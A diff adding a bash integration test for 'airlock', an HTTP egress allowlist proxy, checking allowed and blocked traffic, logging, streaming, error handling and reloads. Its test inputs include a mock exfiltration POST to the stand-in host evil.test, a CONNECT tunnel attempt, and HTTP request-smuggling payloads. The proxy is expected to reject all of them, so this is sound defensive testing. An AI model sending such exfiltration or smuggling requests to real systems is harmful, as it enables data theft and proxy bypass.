@@ -1,0 +1,206 @@
+#!/bin/bash
+# Issue 3: the HTTP proxy core on port 80 through real clients, a real nginx and a Python
+# upstream with faults, in a network namespace of the test's own.
+. "$(dirname "$0")/lib.sh"
+t_enter_netns "$@"
+HERE=$(cd "$(dirname "$0")" && pwd)
+
+cat > "$T_DIR/allow.yaml" <<'YAML'
+domains: ["nginx.test"]
+url_prefixes:
+  - host: py.test
+    path: ""
+  - host: api.test
+    path: /v1/*
+    methods: [GET]
+  - host: gone.test
+  - host: refused.test
+YAML
+ip addr add 127.0.0.3/8 dev lo 2>/dev/null || true
+t_start_resolver --address=/py.test/127.0.0.3 --address=/api.test/127.0.0.3 \
+    --address=/refused.test/127.0.0.4 --address=/gone.test/
+mkdir -p "$T_DIR/www"
+echo "hello from nginx" > "$T_DIR/www/index.html"
+t_start_nginx || exit 1
+"$PY" "$HERE/upstream.py" 127.0.0.3 80 "$T_DIR/py-conns.log" > /dev/null 2>&1 &
+T_PIDS+=($!)
+t_wait_port 127.0.0.3 80 || exit 1
+t_start_airlock "$T_DIR/allow.yaml" --allow-upstream-cidr 127.0.0.3/32 \
+    --allow-upstream-cidr 127.0.0.4/32 || exit 1
+
+# --- allowed, with the DNS topology (glibc resolves through airlock) ---
+out=$(curl -s -m 5 http://nginx.test/)
+t_eq "curl allowed GET through airlock" "hello from nginx" "$out"
+grep -q '^DNS A nginx.test -> 127.0.0.1$' "$T_DIR/net.log"; t_check "DNS line logged" test $? -eq 0
+grep -q '^allowed GET http://nginx.test/ -> 200$' "$T_DIR/net.log"
+t_check "allowed line logged" test $? -eq 0
+
+# --- blocked: exact JSON, content type, log ---
+body=$(curl -s -m 5 -D "$T_DIR/h1" -X POST 'http://evil.test/exfil?d=1')
+t_eq "blocked JSON body" '{"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?d=1", "method": "POST", "message": "This host/path is not in the network allowlist. To request access, add the host/path to the network allowlist (network-allowlist.yaml) and ask the user to approve the change."}' "$body"
+grep -qi '^content-type: application/json' "$T_DIR/h1"; t_check "blocked has JSON content type" test $? -eq 0
+grep -q '^HTTP/1.1 403' "$T_DIR/h1"; t_check "blocked status 403" test $? -eq 0
+grep -q '^BLOCKED POST http://evil.test/exfil?d=1 -> 403$' "$T_DIR/net.log"
+t_check "blocked line logged" test $? -eq 0
+
+# method message
+body=$(curl -s -m 5 -X DELETE http://api.test/v1/x)
+t_contains "method-blocked message" "$body" '"message": "Method DELETE is not allowed for this URL.'
+out=$(curl -s -m 5 http://api.test/v1/echo-headers)
+t_contains "url_prefixes allow GET" "$out" '"request_line": "GET /v1/echo-headers HTTP/1.1"'
+
+# --- CONNECT on port 80 ---
+out=$(printf 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+t_contains "CONNECT answered 403" "$out" "HTTP/1.1 403 Forbidden"
+t_contains "CONNECT JSON" "$out" '"host": "evil.test:443", "method": "CONNECT"'
+grep -q '^BLOCKED CONNECT evil.test:443 -> 403 (tunneling not allowed)$' "$T_DIR/net.log"
+t_check "CONNECT line logged" test $? -eq 0
+
+# --- absolute-form with a different host ---
+out=$(printf 'GET http://evil.test/x HTTP/1.1\r\nHost: nginx.test\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+t_contains "absolute-form mismatch 403" "$out" '"host": "nginx.test", "url_host": "evil.test"'
+grep -q '^BLOCKED GET http://nginx.test/x -> 403 (host mismatch: header=nginx.test, url=evil.test)$' "$T_DIR/net.log"
+t_check "mismatch line logged" test $? -eq 0
+out=$(printf 'GET http://nginx.test/ HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+t_contains "absolute-form same host is forwarded (origin-form upstream)" "$out" "hello from nginx"
+
+# --- keep-alive: second request on the same connection blocked, third allowed ---
+out=$(/usr/bin/python3 - <<'PYX'
+import http.client
+c = http.client.HTTPConnection("127.0.0.1", 80, timeout=5)
+res = []
+ports = set()
+for host in ("nginx.test", "evil.test", "nginx.test"):
+    c.request("GET", "/echo", headers={"Host": host})
+    ports.add(c.sock.getsockname()[1])
+    r = c.getresponse(); r.read()
+    res.append(str(r.status))
+res.append("same-socket" if len(ports) == 1 else "reconnected")
+print(" ".join(res))
+PYX
+)
+t_eq "keep-alive: allowed, blocked, allowed on one connection" "200 403 200 same-socket" "$out"
+
+# --- pipelining: allowed, blocked, allowed in one write ---
+out=$(printf 'GET /echo HTTP/1.1\r\nHost: nginx.test\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /echo?2 HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+n200=$(printf '%s' "$out" | grep -o 'HTTP/1.1 200' | wc -l)
+n403=$(printf '%s' "$out" | grep -o 'HTTP/1.1 403' | wc -l)
+t_eq "pipelined: two 200 and one 403" "2 1" "$n200 $n403"
+first=$(printf '%s' "$out" | grep -o 'uri=[^ ]*' | tr '\n' ' ')
+t_eq "pipelined answers in order" "uri=/echo uri=/echo?2 " "$first"
+
+# --- chunked upload, streamed ---
+head -c 3000000 /dev/urandom > "$T_DIR/up.bin"
+want="$(stat -c %s "$T_DIR/up.bin") $(sha256sum "$T_DIR/up.bin" | cut -d' ' -f1)"
+out=$(curl -s -m 20 -H 'Transfer-Encoding: chunked' --data-binary @"$T_DIR/up.bin" http://py.test/upload)
+t_eq "chunked upload arrives intact" "$want" "$out"
+out=$(curl -s -m 20 --data-binary @"$T_DIR/up.bin" http://py.test/upload)
+t_eq "Content-Length upload arrives intact" "$want" "$out"
+out=$(curl -s -m 20 -H 'Expect: 100-continue' --data-binary @"$T_DIR/up.bin" http://py.test/upload)
+t_eq "Expect: 100-continue upload" "$want" "$out"
+
+# --- Python requests and urllib ---
+out=$(/usr/bin/python3 -c 'import requests; r = requests.get("http://nginx.test/", timeout=5); print(r.status_code, r.text.strip())')
+t_eq "python requests allowed" "200 hello from nginx" "$out"
+out=$(/usr/bin/python3 -c '
+import requests
+r = requests.get("http://evil.test/a", timeout=5)
+print(r.status_code, r.json()["error"])')
+t_eq "python requests blocked" "403 blocked_by_network_allowlist" "$out"
+out=$(/usr/bin/python3 -c '
+import urllib.request, urllib.error
+try:
+    urllib.request.urlopen("http://evil.test/", timeout=5)
+except urllib.error.HTTPError as e:
+    print(e.code)
+print(urllib.request.urlopen("http://nginx.test/", timeout=5).read().decode().strip())')
+t_eq "python urllib blocked then allowed" "403
+hello from nginx" "$out"
+
+# --- server-sent events arrive one by one ---
+out=$(/usr/bin/python3 - <<'PYX'
+import socket, time
+s = socket.create_connection(("127.0.0.1", 80))
+s.sendall(b"GET /sse HTTP/1.1\r\nHost: py.test\r\n\r\n")
+t0 = time.time(); buf = b""; first = None
+while b"0\r\n\r\n" not in buf:
+    d = s.recv(65536)
+    if not d: break
+    buf += d
+    if first is None and b"event 0" in buf:
+        first = time.time() - t0
+total = time.time() - t0
+print("stream" if first is not None and first < total - 0.5 else f"buffered {first} {total}")
+PYX
+)
+t_eq "SSE: first event before the upstream finished" "stream" "$out"
+
+# --- upstream failures -> 502 JSON + ERROR ---
+body=$(curl -s -m 10 -w ' %{http_code}' http://gone.test/)
+t_contains "unresolvable host: 502" "$body" "502"
+t_contains "unresolvable host: upstream_error JSON" "$body" '"error": "upstream_error"'
+grep -q '^ERROR GET http://gone.test/ -> Connection failed: ' "$T_DIR/net.log"
+t_check "unresolvable host: ERROR line" test $? -eq 0
+body=$(curl -s -m 10 -w ' %{http_code}' http://refused.test/)
+t_contains "refused: 502" "$body" "502"
+grep -q '^ERROR GET http://refused.test/ -> Connection failed: connection refused' "$T_DIR/net.log"
+t_check "refused: ERROR line" test $? -eq 0
+code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' http://py.test/reset-head)
+t_eq "reset before a response: 502" "502" "$code"
+curl -s -m 10 -o /dev/null http://py.test/reset-body; rc=$?
+t_check "reset mid-body: the client sees a broken transfer (curl exit $rc)" test $rc -ne 0
+grep -q '^ERROR GET http://py.test/reset-body -> Server disconnected during the response' "$T_DIR/net.log"
+t_check "reset mid-body: ERROR line" test $? -eq 0
+
+# --- smuggling forms: 400, nothing upstream ---
+before=$(wc -l < "$T_DIR/py-conns.log")
+for req in \
+  'POST /upload HTTP/1.1\r\nHost: py.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
+  'POST /upload HTTP/1.1\r\nHost: py.test\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcd' \
+  'GET / HTTP/1.1\r\nHost: py.test\r\nX-A: a\r\n b\r\n\r\n' \
+  'GET / HTTP/1.1\nHost: py.test\n\n' \
+  'GET / HTTP/1.1\r\nHost: py.test\r\nHost: nginx.test\r\n\r\n' \
+  'GET / HTTP/1.1\r\n\r\n' ; do
+    out=$(printf "$req" | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+    case "$out" in
+        "HTTP/1.1 400"*) t_ok "400 for $(printf '%s' "$req" | head -c 60)" ;;
+        *) t_fail "expected 400 for $req, got: $(printf '%s' "$out" | head -1)" ;;
+    esac
+done
+after=$(wc -l < "$T_DIR/py-conns.log")
+t_eq "smuggling attempts reached no upstream" "$before" "$after"
+
+# --- 431 for a head over 64 KiB ---
+big=$(head -c 70000 /dev/zero | tr '\0' a)
+out=$(printf 'GET / HTTP/1.1\r\nHost: nginx.test\r\nX-Big: %s\r\n\r\n' "$big" | "$PY" "$HERE/raw.py" 127.0.0.1 80)
+t_contains "431 for an oversized head" "$out" "HTTP/1.1 431"
+
+# --- 1 GiB download: RSS stays flat ---
+rss0=$(t_rss_kb "$AIRLOCK_PID")
+sz=$(curl -s -m 120 -o /dev/null -w '%{size_download}' "http://py.test/bytes?n=1073741824")
+rss1=$(t_rss_kb "$AIRLOCK_PID")
+t_eq "1 GiB download complete" "1073741824" "$sz"
+growth=$((rss1 - rss0))
+t_check "RSS growth during 1 GiB download under 8 MB (${growth} KiB)" test "$growth" -lt 8192
+
+# --- SIGHUP: valid file reloads, invalid keeps the old policy ---
+code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
+t_eq "new.test blocked before reload" "403" "$code"
+printf 'domains: ["nginx.test", "new.test"]\n' > "$T_DIR/allow.yaml"
+kill -HUP "$AIRLOCK_PID"; sleep 0.3
+code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
+t_eq "new.test allowed after a valid reload" "200" "$code"
+printf 'domains: ["nginx.test"]\nbogus: 1\n' > "$T_DIR/allow.yaml"
+kill -HUP "$AIRLOCK_PID"; sleep 0.3
+code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
+t_eq "invalid reload keeps the previous policy" "200" "$code"
+grep -q 'allow.yaml:2:1' "$T_DIR/airlock.err"; t_check "invalid reload: stderr says where" test $? -eq 0
+
+# --- exactly one line per request; clean shutdown ---
+t_stop_airlock; rc=$?
+t_eq "SIGTERM: exit 0" "0" "$rc"
+dups=$(grep -E '^(allowed|BLOCKED|ERROR) ' "$T_DIR/net.log" | wc -l)
+t_check "log lines written ($dups)" test "$dups" -gt 20
+head -1 "$T_DIR/net.log" | grep -q '^=== TASK START [0-9T:-]*Z ===$'
+t_check "TASK START line first" test $? -eq 0
+t_done
